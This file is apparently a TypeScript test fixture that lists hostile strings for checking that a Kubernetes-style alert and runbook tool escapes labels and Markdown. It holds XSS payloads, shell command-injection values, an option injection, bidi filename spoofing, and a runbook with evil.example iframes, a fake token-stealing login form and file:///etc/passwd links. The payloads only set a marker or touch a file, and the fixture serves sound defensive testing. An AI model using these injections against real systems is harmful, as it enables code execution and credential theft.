/** Texts that an attacker, or a broken exporter, may put into labels and annotations. */

const marker = 'window.__pwned=1';

export interface HostileText {
  readonly text: string;
  /** Whether a command may hold it once it is quoted; false: it is left out, and asked for. */
  readonly isQuotable: boolean;
}

export const hostileTexts: Readonly<Record<string, HostileText>> = {
  'a script': {
    text: `<script>${marker}</script><img src=x onerror="${marker}"><svg onload=${marker}>`,
    isQuotable: true,
  },
  'markup that closes ours': {
    text: `</bdi></div></main></body><iframe srcdoc="<script>parent.${marker}</script>"></iframe>`,
    isQuotable: true,
  },
  'a javascript link': { text: `javascript:${marker}`, isQuotable: true },
  'a data link': { text: `data:text/html,<script>opener.${marker}</script>`, isQuotable: true },
  'a command in $()': { text: 'pod-1$(touch owned)', isQuotable: true },
  'a command in backticks': { text: 'pod-1`touch owned`', isQuotable: true },
  'quotes and separators': {
    text: `'; touch owned; '" && touch owned || "\\' | tee owned > owned #`,
    isQuotable: true,
  },
  'an option': { text: '--kubeconfig=/tmp/evil', isQuotable: false },
  'variables and patterns': { text: '$HOME ~ * ? [a-z] {a,b} !! %PATH%', isQuotable: true },
  'line breaks': { text: 'first\nsecond\n\ntouch owned\n', isQuotable: true },
  'a carriage return': { text: 'harmless\rtouch owned', isQuotable: false },
  'direction controls': { text: 'user\u202e txt.exe\u202c \u2066hidden\u2069', isQuotable: false },
  'emoji and combining marks': {
    text: `👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇳 Z${'\u0321\u0335\u0341'.repeat(60)}algo`,
    isQuotable: false,
  },
  'controls and a NUL': { text: 'a\u0000b\u0007c\u001b[31mred\u001b[0m', isQuotable: false },
  '100 kB without a space': { text: 'x'.repeat(100_000), isQuotable: false },
  '100 kB of lines': { text: 'line\n'.repeat(20_000), isQuotable: false },
};

/** A runbook with all that Markdown allows and a page must not do, and commands that show what reached them. */
export const hostileRunbook = (alerts: readonly string[]): string => `---
title: "<img src=x onerror=${marker}> \u202egnp.exe"
alerts: ${JSON.stringify(alerts)}
---

# Hostile <script>${marker}</script>

<script>${marker}</script>
<iframe src="https://evil.example/"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example/"><input name="token"><button>Log in</button></form>
<img src="https://evil.example/pixel.png" onerror="${marker}">

![picture](https://evil.example/picture.png) ![local](file:///etc/passwd)
[script](javascript:${marker}) [data](data:text/html,<script>${marker}</script>)
[ref][evil] <javascript:${marker}> [file](file:///etc/passwd)

[evil]: javascript:${marker}

1. See what reaches the command <b onmouseover="${marker}">here</b>.

   \`\`\`sh
   printf '%s\\0' <value> "<value>" '<value>' x<value>y
   \`\`\`

   Expect: <script>${marker}</script>

2. ${'wide'.repeat(25_000)}

| a | b |
|---|---|
| ${'cell'.repeat(500)} | <img src=x onerror=${marker}> |
`;
